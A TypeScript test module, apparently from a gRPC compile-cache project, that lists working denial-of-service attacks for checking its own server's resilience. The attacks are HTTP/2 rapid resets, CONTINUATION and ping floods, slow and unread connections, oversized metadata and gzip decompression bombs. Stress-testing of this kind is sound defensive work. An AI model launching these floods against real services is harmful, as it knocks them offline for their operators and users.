import { randomBytes } from "node:crypto";
import { constants } from "node:http2";
import { gzipSync } from "node:zlib";
import {
  ListTransfersRequest,
  LoadRequest,
  WatchTransferRequest,
} from "compilecache-client/gen/compilecache/v1/cache_service.ts";
import { reflectionMethod } from "../../../server/src/service/reflection-answers.ts";
import type { Attack } from "./attack.ts";
import { http1Attacks } from "./http1-attacks.ts";
import {
  callHeaders,
  flag,
  frame,
  frameType,
  headerBlock,
  message,
  preface,
  settingId,
  settings,
} from "./http2-frames.ts";
import { flood, sessionTo, socketTo } from "./peer.ts";

const service = "/compilecache.v1.CacheService";
const listAll = message(
  ListTransfersRequest.encode(
    ListTransfersRequest.fromPartial({ includeFinished: true, pageSize: 1000 }),
  ).finish(),
);

/** Sockets that do something once, and then only stay. */
function sockets(count: number, first: () => Uint8Array | undefined): Attack {
  return (target) => {
    const opened = Array.from({ length: count }, () => {
      const socket = socketTo(target);
      const bytes = first();
      if (bytes) socket.write(bytes);
      return socket.resume();
    });
    return () => {
      for (const socket of opened) socket.destroy();
    };
  };
}

/** Sockets that send frames as fast as they are taken, and read what comes back, or do not. */
function floods(count: number, reads: boolean, make: () => () => Uint8Array): Attack {
  return (target) => {
    const opened = Array.from({ length: count }, () => {
      const socket = socketTo(target);
      socket.write(Buffer.concat([preface, settings()]));
      if (reads) socket.resume();
      flood(socket, make());
      return socket;
    });
    return () => {
      for (const socket of opened) socket.destroy();
    };
  };
}

interface CallsOptions {
  readonly connections: number;
  readonly streams: number;
  readonly path: string;
  readonly body?: Uint8Array;
  readonly headers?: Record<string, string>;
  /** Bytes that it takes of each answer; default: none. */
  readonly window?: number;
  /** Whether requests end; default: yes. */
  readonly ends?: boolean;
  /** Whether calls that ended are made again; default: yes. */
  readonly again?: boolean;
}

/** Calls that are made at once, whose answers are not read. */
function calls(options: CallsOptions | ((operationId: string) => CallsOptions)): Attack {
  return (target, { operationId }) => {
    const given = typeof options === "function" ? options(operationId) : options;
    const { connections, streams, path, body, headers, window = 0, ends = true } = given;
    let over = false;
    const opened = Array.from({ length: connections }, () => {
      const session = sessionTo(target, { initialWindowSize: window });
      const call = () => {
        if (over || session.destroyed || session.closed) return;
        const stream = session.request({
          ":method": "POST",
          ":path": path,
          "content-type": "application/grpc",
          te: "trailers",
          ...headers,
        });
        stream.on("error", () => {});
        stream.on("close", () => given.again !== false && setTimeout(call, 5));
        if (window > 0) stream.resume();
        if (body) stream.write(body);
        if (ends) stream.end();
      };
      session.once("connect", () => {
        for (let n = 0; n < streams; n++) call();
      });
      return session;
    });
    return () => {
      over = true;
      for (const session of opened) session.destroy();
    };
  };
}

const reflectionAsk = message(
  reflectionMethod("v1").requestSerialize({
    host: "",
    messageRequest: { case: "fileContainingSymbol", value: "compilecache.v1.CacheService" },
  }),
);

/** A reflection stream that asks for as long as it may, and never reads. */
function reflection(connections: number, streams: number): Attack {
  return (target) => {
    const asks = Buffer.concat(Array.from({ length: 200 }, () => reflectionAsk));
    const opened = Array.from({ length: connections }, () => {
      const session = sessionTo(target, { initialWindowSize: 0 });
      for (let n = 0; n < streams; n++) {
        const stream = session.request({
          ":method": "POST",
          ":path": reflectionMethod("v1").path,
          "content-type": "application/grpc",
          te: "trailers",
        });
        stream.on("error", () => {});
        const ask = () => {
          if (stream.destroyed || stream.closed) return;
          if (stream.write(asks)) setImmediate(ask);
          else stream.once("drain", ask);
        };
        ask();
      }
      return session;
    });
    return () => {
      for (const session of opened) session.destroy();
    };
  };
}

/** The odd numbers, which name a client's streams. */
function streamIds(): () => number {
  let last = -1;
  return () => {
    last += 2;
    return last;
  };
}

const request = (id: number, path = `${service}/ListTransfers`, flags: number = flag.endHeaders) =>
  frame(frameType.headers, flags, id, headerBlock(callHeaders(path)));

/** Many frames at once cost the attacker less. */
const many = (count: number, make: () => Uint8Array) => () =>
  Buffer.concat(Array.from({ length: count }, make));

let namespaces = 0;

/** Everything that a hostile client is known to do, by its name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "silent connections": sockets(600, () => undefined),
  "half a preface": sockets(600, () => preface.subarray(0, 10)),
  "a preface, and no request": sockets(600, () => Buffer.concat([preface, settings()])),
  "not HTTP/2 at all": sockets(600, () => Buffer.from("GET / HTTP/1.1\r\nHost: a\r\n\r\n")),
  "headers that never end": sockets(600, () =>
    Buffer.concat([preface, settings(), request(1, `${service}/Load`, 0)]),
  ),
  "requests that never end": calls({
    connections: 10,
    streams: 1000,
    path: `${service}/Load`,
    body: message(Buffer.alloc(30_000), { length: 60_000 }),
    ends: false,
  }),
  "lists that are not read": calls({
    connections: 20,
    streams: 1000,
    path: `${service}/ListTransfers`,
    body: listAll,
  }),
  "lists that are read": calls({
    connections: 20,
    streams: 50,
    path: `${service}/ListTransfers`,
    body: listAll,
    window: 1_000_000,
  }),
  "lists whose connection is not read": (target, known) => {
    const body = (id: number) => frame(frameType.data, flag.endStream, id, listAll);
    return floods(20, false, () => {
      const next = streamIds();
      const open = () => {
        const id = next();
        return Buffer.concat([request(id), body(id)]);
      };
      let first = true;
      return () => {
        if (!first) return open();
        first = false;
        const grown = Buffer.alloc(4);
        grown.writeUInt32BE(2 ** 31 - 1 - 65_535);
        return Buffer.concat([
          settings([[settingId.initialWindowSize, 2 ** 31 - 1]]),
          frame(frameType.windowUpdate, 0, 0, grown),
          open(),
        ]);
      };
    })(target, known);
  },
  "reflection that is not read": reflection(10, 20),
  "watchers that never read": calls((operationId) => ({
    connections: 20,
    streams: 500,
    path: `${service}/WatchTransfer`,
    body: message(WatchTransferRequest.encode({ operationId }).finish()),
  })),
  "health watches that never read": calls({
    connections: 20,
    streams: 500,
    path: "/grpc.health.v1.Health/Watch",
    body: message(Buffer.alloc(0)),
  }),
  "rapid resets": floods(10, true, () => {
    const next = streamIds();
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(constants.NGHTTP2_CANCEL);
    return many(100, () => {
      const id = next();
      return Buffer.concat([request(id), frame(frameType.rstStream, 0, id, cancel)]);
    });
  }),
  "calls that are cancelled at once": calls({
    connections: 10,
    streams: 500,
    path: `${service}/WatchTransfer`,
    body: message(Buffer.from([255])),
    window: 1000,
  }),
  pings: floods(20, true, () => many(500, () => frame(frameType.ping, 0, 0, Buffer.alloc(8)))),
  "pings whose answers are not read": floods(20, false, () =>
    many(500, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  ),
  settings: floods(20, true, () => many(500, () => settings([[settingId.initialWindowSize, 1]]))),
  "empty settings whose answers are not read": floods(20, false, () => many(500, settings)),
  "window updates": floods(20, true, () =>
    many(500, () => frame(frameType.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))),
  ),
  priorities: floods(20, true, () => {
    const next = streamIds();
    return many(500, () => frame(frameType.priority, 0, next(), Buffer.from([0, 0, 0, 0, 1])));
  }),
  "unknown frames": floods(20, true, () => many(500, () => frame(0xee, 0, 0, Buffer.alloc(10)))),
  "empty data": floods(20, true, () => {
    let first = true;
    return () => {
      const opens = first ? request(1) : Buffer.alloc(0);
      first = false;
      return Buffer.concat([opens, ...Array(500).fill(frame(frameType.data, 0, 1))]);
    };
  }),
  continuations: floods(20, true, () => {
    let first = true;
    return () => {
      const opens = first ? request(1, `${service}/Load`, 0) : Buffer.alloc(0);
      first = false;
      const more = frame(frameType.continuation, 0, 1, headerBlock([["a", "b".repeat(10)]]));
      return Buffer.concat([opens, ...Array(100).fill(more)]);
    };
  }),
  "huge metadata": calls({
    connections: 10,
    streams: 200,
    path: `${service}/Load`,
    headers: Object.fromEntries(Array.from({ length: 50 }, (_, n) => [`x-${n}`, "v".repeat(1000)])),
    ends: false,
  }),
  "huge messages": calls({
    connections: 10,
    streams: 100,
    path: `${service}/Load`,
    body: message(Buffer.alloc(0), { length: 2 ** 32 - 1 }),
    window: 1000,
  }),
  "compressed bombs": calls(() => {
    const bomb = message(gzipSync(Buffer.alloc(64 * 1024 * 1024)), { compressed: true });
    return {
      connections: 10,
      streams: 50,
      path: `${service}/Load`,
      headers: { "grpc-encoding": "gzip" },
      body: bomb,
      window: 1000,
    };
  }),
  "many compressed messages at once": calls(() => {
    const bomb = message(gzipSync(Buffer.alloc(30_000)), { compressed: true });
    return {
      connections: 10,
      streams: 100,
      path: `${service}/Load`,
      headers: { "grpc-encoding": "gzip" },
      body: Buffer.concat(Array(600).fill(bomb)),
      window: 1000,
    };
  }),
  "many empty messages at once": calls({
    connections: 10,
    streams: 100,
    path: `${service}/Load`,
    body: Buffer.alloc(60_000),
    window: 1000,
  }),
  "detached loads": (target, { localDir }) => {
    let over = false;
    const session = sessionTo(target);
    const call = () => {
      if (over || session.destroyed || session.closed) return;
      const stream = session.request({
        ":method": "POST",
        ":path": `${service}/Load`,
        "content-type": "application/grpc",
        te: "trailers",
      });
      stream
        .on("error", () => {})
        .on("close", call)
        .resume();
      const request = {
        namespace: `n${namespaces++}`,
        environment: { torchVersion: "2.1.0", cudaVersion: "", computeCapability: "" },
        localDir,
        detach: true,
      };
      stream.end(message(LoadRequest.encode(LoadRequest.fromPartial(request)).finish()));
    };
    for (let n = 0; n < 200; n++) call();
    return () => {
      over = true;
      session.destroy();
    };
  },
  "connections that come and go": (target) => {
    let over = false;
    const open = () => {
      if (over) return;
      const socket = socketTo(target);
      socket.on("close", () => setImmediate(open)).resume();
      socket.once("connect", () => socket.end(Buffer.concat([preface, settings()])));
    };
    for (let n = 0; n < 50; n++) open();
    return () => {
      over = true;
    };
  },
  ...http1Attacks,
  "random bytes": floods(20, true, () => () => randomBytes(10_000)),
};
